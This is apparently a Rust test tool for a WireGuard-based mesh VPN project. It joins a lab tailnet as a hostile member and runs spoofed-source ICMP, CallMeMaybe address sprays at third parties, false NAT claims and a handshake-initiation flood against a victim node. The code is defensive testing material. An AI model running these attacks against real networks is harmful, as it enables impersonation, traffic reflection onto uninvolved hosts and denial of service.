//! `burrow-hostile`: a tailnet member whose sender is altered, for `cargo xtask attack` against
//! real `burrow up` nodes in the namespace lab. It registers like any node (an auth key, a
//! sealed registration), learns the victim from its netmap, runs the node engine to get a
//! WireGuard session with it over DERP, and then attacks:
//!
//! - `spoof`: ICMP echo requests to the victim from another member's tailnet address, then the
//!   same number from its own (the control run: those must arrive);
//! - `spray`: CallMeMaybe messages naming third-party addresses, 50 a second;
//! - `natinfo`: "my NAT varies and is unpredictable", with a CallMeMaybe naming a third party;
//! - `flood`: WireGuard initiations from fresh keys over DERP, 500 a second.
//!
//! It prints one `hostile: …` line per phase with what it sent; the lab reads the victim's TUN
//! counters, its router's nftables counters and its process to judge.
//!
//! Usage: burrow-hostile --control URL --tls-ca FILE --auth-key-file FILE --derp URL
//!        --state-dir DIR --victim NAME --impersonate NAME --third-party A.B.C.0 --seconds N

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

use burrow::control::client::{peer_config, ControlClient};
use burrow::control::RegisterBody;
use burrow::derp_client::DerpClient;
use burrow_derp::client::ClientEvent;
use burrow_disco::Message;
use burrow_node::{Input, Node, NodeConfig, Transmit};
use burrow_wg::PrivateKey;
use rand_chacha::rand_core::{RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;

type Error = Box<dyn std::error::Error + Send + Sync>;

fn args() -> Result<BTreeMap<String, String>, Error> {
    let mut out = BTreeMap::new();
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let name = flag
            .strip_prefix("--")
            .ok_or_else(|| format!("unexpected argument {flag:?}"))?;
        let value = it.next().ok_or_else(|| format!("--{name} needs a value"))?;
        out.insert(name.to_string(), value);
    }
    Ok(out)
}

/// An IPv4 ICMP echo request from `src` to `dst`.
fn echo_request(src: Ipv4Addr, dst: Ipv4Addr, seq: u16) -> Vec<u8> {
    let mut icmp = vec![8, 0, 0, 0, 0x42, 0x42];
    icmp.extend_from_slice(&seq.to_be_bytes());
    icmp.extend_from_slice(b"burrow-hostile");
    let sum = checksum(&icmp);
    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
    let total = (20 + icmp.len()) as u16;
    let mut p = vec![0x45, 0];
    p.extend_from_slice(&total.to_be_bytes());
    p.extend_from_slice(&[0, 0, 0, 0, 64, 1, 0, 0]);
    p.extend_from_slice(&src.octets());
    p.extend_from_slice(&dst.octets());
    let sum = checksum(&p);
    p[10..12].copy_from_slice(&sum.to_be_bytes());
    p.extend_from_slice(&icmp);
    p
}

fn checksum(b: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    for c in b.chunks(2) {
        sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn v4(addrs: &[IpAddr]) -> Option<Ipv4Addr> {
    addrs.iter().find_map(|a| match a {
        IpAddr::V4(v) => Some(*v),
        IpAddr::V6(_) => None,
    })
}

/// The engine, driven by hand so raw DERP payloads can be injected beside its traffic.
struct Driver {
    engine: Node,
    derp: DerpClient,
    socket: tokio::net::UdpSocket,
}

impl Driver {
    fn flush(&mut self) {
        while let Some(t) = self.engine.poll_transmit() {
            match t {
                Transmit::Udp {
                    socket: 0,
                    dst,
                    payload,
                } => {
                    let _ = self.socket.try_send_to(&payload, dst);
                }
                Transmit::Udp { .. } => {} // no birthday sockets here
                Transmit::Derp { dst, payload, .. } => self.derp.send(dst, payload),
            }
        }
        while self.engine.poll_event().is_some() {}
    }

    /// Runs the engine for `d`.
    async fn run_for(&mut self, d: Duration) {
        let until = tokio::time::Instant::now() + d;
        let mut buf = vec![0u8; 65_536];
        loop {
            self.flush();
            let wake = self
                .engine
                .poll_timeout()
                .map(tokio::time::Instant::from_std)
                .map_or(until, |w| w.min(until));
            tokio::select! {
                e = self.derp.events.recv() => {
                    if let Some(ClientEvent::Packet { src, data }) = e {
                        let now = std::time::Instant::now();
                        let _ = self.engine.handle_input(now, Input::Derp { region: 1, from: src, data: &data });
                    }
                }
                r = self.socket.recv_from(&mut buf) => {
                    if let Ok((n, from)) = r {
                        let now = std::time::Instant::now();
                        let _ = self.engine.handle_input(now, Input::Udp { socket: 0, from, data: &buf[..n] });
                    }
                }
                _ = tokio::time::sleep_until(wake) => {
                    if tokio::time::Instant::now() >= until {
                        return;
                    }
                    self.engine.handle_timeout(std::time::Instant::now());
                }
            }
        }
    }
}

#[tokio::main]
async fn main() -> Result<(), Error> {
    let a = args()?;
    let get = |k: &str| {
        a.get(k)
            .cloned()
            .ok_or_else(|| Error::from(format!("--{k} is required")))
    };
    let roots = match a.get("tls-ca") {
        Some(p) => vec![std::fs::read(p)?],
        None => vec![],
    };
    let seconds: u64 = get("seconds")?.parse()?;
    let third: Ipv4Addr = get("third-party")?.parse()?;
    let mut rng = ChaCha20Rng::from_os_rng();
    let node_key = PrivateKey::generate(&mut rng);
    let disco_key = PrivateKey::generate(&mut rng);

    // A member like any other.
    let control = ControlClient::with_roots(&get("control")?, roots.clone())?;
    let auth_key = std::fs::read_to_string(get("auth-key-file")?)?
        .trim()
        .to_string();
    let reg = control
        .register(
            &node_key,
            RegisterBody {
                auth_key: Some(auth_key),
                hostname: "hostile".into(),
                disco_key: disco_key.public_key().to_base64(),
                ..RegisterBody::default()
            },
        )
        .await?;
    let (_stream, map) = control.open_map(&reg.secret).await?;
    let by_name = |n: &str| map.peers.iter().find(|p| p.node.name == n).cloned();
    let victim = by_name(&get("victim")?).ok_or("the victim is not in the netmap")?;
    let other =
        by_name(&get("impersonate")?).ok_or("the impersonated node is not in the netmap")?;
    let victim_cfg = peer_config(&victim).ok_or("the victim's keys do not parse")?;
    let (me_ip, victim_ip, other_ip) = (
        v4(&map.node.addresses).ok_or("no address")?,
        v4(&victim.node.addresses).ok_or("victim has no IPv4")?,
        v4(&other.node.addresses).ok_or("impersonated node has no IPv4")?,
    );
    println!("hostile: registered as {me_ip}; victim {victim_ip}; impersonating {other_ip}");

    let mut config = NodeConfig::new(node_key.clone(), disco_key.clone(), rng.next_u64());
    config.unix_time = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?;
    let mut engine = Node::new(config, std::time::Instant::now());
    engine.add_peer(std::time::Instant::now(), victim_cfg.clone())?;
    let mut d = Driver {
        engine,
        derp: DerpClient::spawn(get("derp")?.parse()?, node_key.clone(), roots),
        socket: tokio::net::UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0))).await?,
    };
    // A session with the victim (an honest packet starts the handshake).
    let vk = victim_cfg.node_key;
    let _ = d.engine.send(
        std::time::Instant::now(),
        &vk,
        &echo_request(me_ip, victim_ip, 0),
    );
    d.run_for(Duration::from_secs(3)).await;

    let attacks = get("attack")?;
    let wants = |name: &str| attacks == "all" || attacks.split(',').any(|a| a == name);
    let ticks = seconds * 50; // 20 ms apart

    if wants("spoof") {
        for seq in 1..=200u16 {
            let p = echo_request(other_ip, victim_ip, seq);
            let _ = d.engine.send(std::time::Instant::now(), &vk, &p);
            d.run_for(Duration::from_millis(10)).await;
        }
        println!("hostile: spoof sent 200 echo requests from {other_ip}");
        d.run_for(Duration::from_secs(2)).await;
        println!("hostile: spoof-done");
        // Ask the lab to read the counters now, then the control run from our own address.
        d.run_for(Duration::from_secs(3)).await;
        for seq in 1..=200u16 {
            let p = echo_request(me_ip, victim_ip, seq);
            let _ = d.engine.send(std::time::Instant::now(), &vk, &p);
            d.run_for(Duration::from_millis(10)).await;
        }
        println!("hostile: control sent 200 echo requests from {me_ip}");
        d.run_for(Duration::from_secs(2)).await;
        println!("hostile: control-done");
    }
    if wants("spray") {
        let mut sent = 0u64;
        for t in 0..ticks {
            if t % 2 == 0 {
                let endpoints: Vec<SocketAddr> = (0..60u64)
                    .map(|k| {
                        let n = t * 60 + k;
                        let o = third.octets();
                        SocketAddr::from((
                            [o[0], o[1], o[2], 1 + (n % 200) as u8],
                            1000 + (n % 60_000) as u16,
                        ))
                    })
                    .collect();
                let wire = Message::CallMeMaybe { endpoints }.seal(
                    &disco_key,
                    &victim_cfg.disco_key,
                    &mut rng,
                )?;
                d.derp.send(vk, wire);
                sent += 1;
            }
            d.run_for(Duration::from_millis(20)).await;
        }
        println!("hostile: spray sent {sent} CallMeMaybe messages of 60 endpoints in {third}/24");
    }
    if wants("natinfo") {
        let o = third.octets();
        let target = SocketAddr::from(([o[0], o[1], o[2], 250], 41641));
        for t in 0..seconds {
            let cmm = Message::CallMeMaybe {
                endpoints: vec![target],
            }
            .seal(&disco_key, &victim_cfg.disco_key, &mut rng)?;
            d.derp.send(vk, cmm);
            let info = Message::NatInfo {
                mapping_varies: true,
                predictable: false,
                mapped: false,
            }
            .seal(&disco_key, &victim_cfg.disco_key, &mut rng)?;
            d.derp.send(vk, info);
            let _ = t;
            d.run_for(Duration::from_secs(1)).await;
        }
        println!("hostile: natinfo claimed a random NAT at {target} for {seconds} s");
    }
    if wants("flood") {
        let mut sent = 0u64;
        for _ in 0..ticks {
            for _ in 0..10 {
                let now = std::time::Instant::now();
                let mut dev = burrow_wg::device::Device::new(
                    PrivateKey::generate(&mut rng),
                    ChaCha20Rng::seed_from_u64(rng.next_u64()),
                    now,
                    Duration::from_secs(1_700_000_000),
                );
                let p = dev.add_peer(now, vk, None, None);
                let mut out = vec![0u8; 2048];
                let _ = dev.encapsulate(now, p, &[0x45; 20], &mut out);
                if let Some((_, init)) = dev.poll_transmit() {
                    d.derp.send(vk, init);
                    sent += 1;
                }
            }
            d.run_for(Duration::from_millis(20)).await;
        }
        println!("hostile: flood sent {sent} handshake initiations over DERP");
    }
    println!("hostile: done");
    Ok(())
}
